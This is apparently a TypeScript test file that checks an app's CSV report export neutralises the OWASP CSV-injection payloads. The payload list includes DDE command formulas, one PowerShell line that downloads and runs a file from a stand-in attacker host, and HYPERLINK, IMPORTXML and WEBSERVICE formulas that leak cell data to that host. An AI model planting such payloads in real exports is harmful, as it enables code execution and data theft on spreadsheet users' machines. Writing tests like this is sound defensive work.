// Exported reports neutralise the OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection):
// a golden file pins the exact bytes renderReport writes for each payload in the columns that carry
// text we did not write (name, e-mail, the service's error message). Regenerate after a deliberate
// change with UPDATE_GOLDEN=1, and read the diff.
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { renderReport, REPORT_COLUMNS, type ReportRow } from '../../../electron/core/campaigns/report.ts';

const GOLDEN = new URL('../../fixtures/security/report-injection.golden.csv', import.meta.url);

const OWASP_PAYLOADS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.example/?leak="&A1&A2,"Error: click here")',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=WEBSERVICE("http://attacker.example/")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=2+5+cmd|\' /C calc\'!A0',
  '=1+1,=2+2',
  // Pieces a `;` locale (de-DE Excel) or a `,` split would run: each neutralised, the cell quoted.
  "Max;=cmd|' /C calc'!A0",
  'Ada, @SUM(1+1)',
  'x;\t-1+1',
  '"=1+1"',
  "'=1+1",
  ' =1+1',
  '  @SUM(1+1)',
  '\u00a0+1+1',
  ' \t-1+1',
  'a=1+1',
  'a =1+1',
  'plain@example.com',
];

function row(payload: string, i: number): ReportRow {
  return {
    name: payload,
    email: payload,
    amount: { minor: 2500, currency: 'USD' },
    state: 'failed',
    orderId: null,
    orderStatus: null,
    itemId: null,
    itemStatus: null,
    charged: null,
    issued: null,
    findings: [payload],
    exchangeRate: null,
    feeRate: null,
    externalReferenceId: `gb_injection_${String(i).padStart(2, '0')}`,
    sentAt: Date.UTC(2026, 0, 15, 9, 0, i),
    deliveredAt: null,
    acceptanceExpiry: null,
    lastError: payload,
    line: i + 2,
    productId: 101,
    productName: payload,
  };
}

// What a spreadsheet may run: a formula character first, or after spaces it may trim on import.
const DANGEROUS_START = /^\s*[=+\-@]|^[\t\r\n]/;

describe('CSV injection in the delivery report', () => {
  // With a gift per row, so the totals section's product subtotal carries a payload (a product name) too.
  const csv = renderReport(OWASP_PAYLOADS.map(row), { environment: 'production', baseUrl: 'https://api.gifts.example', giftPerRow: true });

  it('writes exactly the golden bytes for the OWASP payload list', () => {
    if (process.env.UPDATE_GOLDEN === '1' || !existsSync(GOLDEN)) writeFileSync(GOLDEN, csv);
    expect(csv).toBe(readFileSync(GOLDEN, 'utf8'));
  });

  it('leaves no cell a spreadsheet would run: every payload is read back as text behind one leading quote', () => {
    const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { newline: '\r\n' });
    expect(parsed.errors).toEqual([]);
    const records = parsed.data.slice(1, 1 + OWASP_PAYLOADS.length);
    for (const [i, payload] of OWASP_PAYLOADS.entries()) {
      const cells = records[i] ?? [];
      for (const column of ['name', 'email', 'last_error'] as const) {
        const cell = cells[REPORT_COLUMNS.indexOf(column)] ?? '';
        expect(DANGEROUS_START.test(cell), `${column} of ${JSON.stringify(payload)}`).toBe(false);
        // Split as a spreadsheet in any locale might: no piece starts a formula.
        for (const piece of cell.split(/[,;]/)) expect(/^[ \t]*[=+\-@]/.test(piece), `a piece of ${column} of ${JSON.stringify(payload)}`).toBe(false);
        // Nothing else is changed: a quote before each formula-looking piece, and before it all if it starts like one.
        const pieces = payload.replace(/([,;][ \t]*)([=+\-@])/g, "$1'$2");
        expect(cell, `${column} of ${JSON.stringify(payload)}`).toBe(DANGEROUS_START.test(pieces) ? `'${pieces}` : pieces);
      }
    }
    for (const cells of parsed.data) for (const cell of cells) expect(DANGEROUS_START.test(cell), JSON.stringify(cell)).toBe(false);
  });

  it('quotes every cell a spreadsheet could split on , or ;', () => {
    expect(csv).toContain(`"Max;'=cmd|' /C calc'!A0"`);
    expect(csv).toContain(`"Ada, '@SUM(1+1)"`);
  });
});
